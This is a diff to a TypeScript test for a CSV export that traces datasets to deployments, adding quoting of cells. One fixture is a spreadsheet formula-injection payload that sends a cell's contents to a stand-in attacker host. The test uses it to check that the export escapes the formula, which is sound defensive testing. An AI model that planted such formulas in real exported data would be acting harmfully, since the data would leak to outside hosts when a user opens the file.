@@ -4,6 +4,11 @@ import { useConsole } from "./console-browser.js";
 import { logRun, makeTrackedRegistry, reportDeployment } from "./tracked-registry.js";
 
 const web = useConsole();
+const quoted = (cells: string) =>
+  cells
+    .split(",")
+    .map((cell) => `"${cell}"`)
+    .join(",");
 const FORMULA = '=HYPERLINK("https://evil.example/"&A1)';
 
 beforeAll(async () => {
@@ -32,13 +37,13 @@ test("from a dataset down to the endpoints that it reached, with counts and as a
     .trimEnd()
     .split("\r\n");
   expect(lines).toHaveLength(10);
-  expect(lines[0]).toBe("kind,name,steps,stage,environment,running,health,state,drifted,stale,id");
+  expect(lines[0]).toBe(quoted("kind,name,steps,stage,environment,running,health,state,drifted,stale,id"));
   // a spreadsheet must not execute what somebody wrote
   expect(lines.find((line) => line.includes("HYPERLINK"))).toContain(
-    `RUN,"'=HYPERLINK(""https://evil.example/""&A1)",1`,
+    `"RUN","'=HYPERLINK(""https://evil.example/""&A1)",1`,
   );
   expect(lines.find((line) => line.includes("prod-us/scorer"))).toContain(
-    "DEPLOYMENT,prod-us/scorer,3,,prod-us,v1,DEGRADED,RUNNING,true,false,",
+    `"DEPLOYMENT","prod-us/scorer",3,${quoted(",prod-us,v1,DEGRADED,RUNNING,true,false")},`,
   );
   await page.context().close();
 });
